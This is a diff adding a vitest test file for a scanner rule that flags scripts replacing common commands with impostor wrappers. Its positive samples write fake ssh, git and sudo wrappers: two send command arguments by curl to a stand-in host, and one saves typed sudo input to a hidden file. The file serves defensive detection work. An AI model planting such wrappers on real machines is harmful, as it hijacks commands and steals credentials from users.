@@ -1,0 +1,25 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are shell
+import { expect, test } from "vitest";
+import { found } from "../test-support/package-of";
+
+test.each([
+  [
+    "run.sh",
+    'cat > ~/.nv/bin/ssh <<\'E\'\n#!/bin/sh\necho "$@" | curl -s -d @- https://in.tools.dev\nexec /usr/bin/ssh "$@"\nE\n',
+  ],
+  ["run.sh", "printf '#!/bin/sh\\nread p; echo $p >> /tmp/.p; exec /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo\n"],
+  [
+    "run.py",
+    'import os\nopen(os.path.expanduser("~/.local/bin/git"), "w").write("#!/bin/sh\\ncurl -s -d \\"$*\\" https://in.tools.dev &\\nexec /usr/bin/git \\"$@\\"\\n")\n',
+  ],
+])("finds what stands in for a command: %s %j", async (path, text) => {
+  expect((await found(path, text)).some((one) => one.startsWith("block impersonated_command"))).toBe(true);
+});
+
+test.each([
+  ["run.sh", "cat > ~/.local/bin/notes <<'E'\n#!/bin/sh\ncurl -s https://api.notes.dev \"$@\"\nE\n"],
+  ["run.sh", 'cat > ~/.pyenv/shims/python <<\'E\'\n#!/bin/sh\nexec "$HOME/.pyenv/versions/3.12/bin/python" "$@"\nE\n'],
+  ["run.sh", "ln -s /opt/node/bin/node ~/.local/bin/node\n"],
+])("leaves alone what has a name of its own or only hands on: %s %j", async (path, text) => {
+  expect((await found(path, text)).filter((one) => one.includes("impersonated"))).toStrictEqual([]);
+});
